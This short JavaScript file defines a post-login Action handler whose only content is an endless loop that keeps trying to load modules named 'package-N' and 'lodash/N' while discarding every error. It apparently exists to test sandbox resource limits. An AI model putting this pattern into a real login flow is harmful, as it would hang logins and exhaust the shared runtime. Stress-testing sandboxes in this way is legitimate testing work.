exports.onExecutePostLogin = async (event, api) => {
  for (let i = 0; ; i++) { try { require('package-' + i); } catch (e) { void e; } try { require('lodash/' + i); } catch (e) { void e; } }
};
